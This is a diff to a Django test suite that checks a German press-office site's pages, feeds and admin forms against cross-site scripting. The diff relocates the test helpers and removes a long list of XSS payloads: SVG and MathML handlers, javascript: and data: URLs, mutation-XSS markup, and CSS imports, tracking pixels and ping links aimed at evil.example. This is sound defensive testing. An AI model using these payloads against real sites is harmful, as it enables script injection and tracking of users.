@@ -10,7 +10,6 @@ import hashlib
 import io
 import json
 import re
-import zoneinfo
 from html.parser import HTMLParser
 
 import feedparser
@@ -23,98 +22,20 @@ from PIL import Image as PILImage
 from events.models import Event
 from office.models import Image, LegalPage, Person, Profile, Quote, Statistic
 from releases.models import Category, Release, Topic
-from tests.conftest import make_category, make_profile, make_release
-from tests.test_sanitizer import (
+from tests.kit.factories import make_profile, make_release
+from tests.kit.pages import admin_form, release_form_data
+from tests.kit.xss import (
     ALLOWED_ATTRIBUTES,
     ALLOWED_TAGS,
     GLOBAL_ATTRIBUTES,
-    XSS_VECTORS,
-    FormFields,
+    VECTORS,
     Markup,
     offences,
-    release_form_data,
     script_url,
 )
 
 pytestmark = pytest.mark.django_db
 
-BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
-
-MORE_VECTORS = [
-    # SVG: animation, references, foreign content
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
-    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
-    "<a id=x><text x=20 y=20>Text</text></a></svg>",
-    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
-    '<image href=1 onerror=alert(1) /></svg>#x"/></svg>',
-    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
-    "</foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    '<svg><script href="data:,alert(1)" /></svg>',
-    "<svg/onload=alert(1)//",
-    '<svg><image href="javascript:alert(1)"></image></svg>',
-    '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
-    # MathML
-    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">Text'
-    "</maction></math>",
-    '<math><mi xlink:href="data:x,<script>alert(1)</script>">Text</mi></math>',
-    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
-    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
-    '<math><mtext><h1><a href="javascript:alert(1)">Text</a></h1></mtext></math>',
-    "<math><style><img src=x onerror=alert(1)></style></math>",
-    # data: URLs in every attribute that loads or navigates
-    '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">Text</a>',
-    '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">Text</a>',
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
-    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<script src="data:text/javascript,alert(1)"></script>',
-    '<a href="  data:text/html,<script>alert(1)</script>">Text</a>',
-    # CSS: expressions, bindings, imports, overlays
-    '<div style="background-image: url(javascript:alert(1))">Text</div>',
-    '<p style="behavior: url(xss.htc)">Text</p>',
-    '<p style="-moz-binding: url(https://evil.example/xss.xml#xss)">Text</p>',
-    '<p style="x:expr/**/ession(alert(1))">Text</p>',
-    '<p style="background:url(&quot;javascript:alert(1)&quot;)">Text</p>',
-    '<style>@import "https://evil.example/x.css";</style>',
-    '<style>p{background:url("https://evil.example/track.png")}</style>',
-    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">Overlay</p>',
-    # mutation XSS: markup that changes meaning when parsed twice
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>'
-    '<img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></table>'
-    "</mtext></math>",
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
-    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    '<a href="https://example.org" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">Text</a>',
-    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
-    '<select><template><style><!--</style><a rel="--></style></template></select>'
-    '<img src=x onerror=alert(1)>">',
-    "<ol><li><a href='https://example.org'>x</a></li></ol></li></ol><img src=x onerror=alert(1)>",
-    # more handlers and obfuscated schemes
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>Text</marquee>",
-    "<audio src=x onerror=alert(1)>",
-    "<xss onafterscriptexecute=alert(1)><script>1</script>",
-    "<frameset onload=alert(1)>",
-    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
-    '&#0000105&#0000112&#0000116&#0000058alert(1)">Text</a>',
-    '<a href="jav&#x0A;ascript:alert(1)">Text</a>',
-    '<a href=" &#14;  javascript:alert(1)">Text</a>',
-    '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-    # tracking, tab-nabbing and DOM clobbering of the page's own ids and names
-    '<img src="https://evil.example/pixel.gif">',
-    '<a href="https://example.org" target="_blank">Text</a>',
-    '<a href="https://example.org" ping="https://evil.example/ping">Text</a>',
-    '<a id="inhalt" href="https://evil.example/">Text</a>',
-    '<form id="share" name="location"><input name="href" value="https://evil.example/"></form>',
-    '<p data-django-prose-editor-default=\'{"types":["script"]}\'>Text</p>',
-]
-
-VECTORS = XSS_VECTORS + MORE_VECTORS
 
 # Joined, so every surface shows every vector at once, in plain and in rich text.
 ALL_AT_ONCE = "".join(VECTORS)
@@ -208,7 +129,7 @@ def entry_html(entry):
     return entry.get("summary", "")
 
 
-def parse_feed(response):
+def read_any_feed(response):
     """Parse RSS and Atom as a feed reader does (no sanitizing); JSON Feed into the same shape."""
     if not response["Content-Type"].startswith("application/feed+json"):
         return feedparser.parse(response.content, sanitize_html=False)
@@ -227,11 +148,6 @@ def parse_feed(response):
 
 
 # One vector at a time, posted in the admin's release form.
-
-
-@pytest.fixture
-def category(db):
-    return make_category(name="Sicherheit", slug="sicherheit")
 
 
 def post_release(client, category, body, slug, lead="Vorspann"):
@@ -254,7 +170,7 @@ def test_vector_posted_in_the_admin_is_inert_on_its_page_and_in_every_feed(
     page = client.get("/pressemitteilungen/angriff/")
     baseline = client.get("/pressemitteilungen/harmlos/")
     feeds = [
-        parse_feed(client.get(url))
+        read_any_feed(client.get(url))
         for url in (
             "/pressemitteilungen/feed/",
             "/pressemitteilungen/atom/",
@@ -348,7 +264,7 @@ def build_site(officer_client, text):
     assert officer_client.post("/admin/releases/release/add/", data).status_code == 302
 
     add = "/admin/events/event/add/"
-    data = FormFields(officer_client.get(add).content.decode()).data | {
+    data = admin_form(officer_client, add) | {
         "title": f"Angriff {text(SHORT)}",
         "slug": "angriff",
         "description": text(ALL_AT_ONCE),
@@ -367,7 +283,7 @@ def build_site(officer_client, text):
 
 def snapshot(client):
     pages = {path: client.get(path) for path in PAGES}
-    feeds = {path: parse_feed(client.get(path)) for path in FEEDS}
+    feeds = {path: read_any_feed(client.get(path)) for path in FEEDS}
     return pages, feeds
 
 
@@ -413,7 +329,7 @@ def test_feed_summary_carries_the_lead_as_text_not_as_markup(client, category):
     make_release(category=category, lead="Fakten <script>alert(1)</script> & <b>Meinung</b>")
 
     feeds = [
-        parse_feed(client.get(url))
+        read_any_feed(client.get(url))
         for url in ("/pressemitteilungen/feed/", "/pressemitteilungen/atom/")
     ]
 
@@ -466,7 +382,7 @@ def test_search_marks_the_query_in_hostile_titles_quotes_and_figures_as_text(cli
 )
 def test_source_links_with_script_schemes_are_refused_in_the_admin(officer_client, field, url):
     add = "/admin/office/statistic/add/"
-    data = FormFields(officer_client.get(add).content.decode()).data | {
+    data = admin_form(officer_client, add) | {
         "label": "Anteil",
         "source_name": "Institut",
         field: url,
@@ -488,7 +404,7 @@ def polyglot_jpeg():
 
 def upload(client, name, content):
     add = "/admin/office/image/add/"
-    data = FormFields(client.get(add).content.decode()).data | {
+    data = admin_form(client, add) | {
         "alt_text": "Polyglott",
         "file": SimpleUploadedFile(name, content, "text/html"),
     }
@@ -533,6 +449,6 @@ def test_control_characters_pasted_into_a_release_do_not_break_its_feeds(
 
     assert Release.objects.filter(slug="steuerzeichen").exists()
     assert [response.status_code for response in responses] == [200, 200]
-    assert [[entry.link for entry in parse_feed(r).entries] for r in responses] == [
+    assert [[entry.link for entry in read_any_feed(r).entries] for r in responses] == [
         ["https://www.example.org/pressemitteilungen/steuerzeichen/"]
     ] * 2
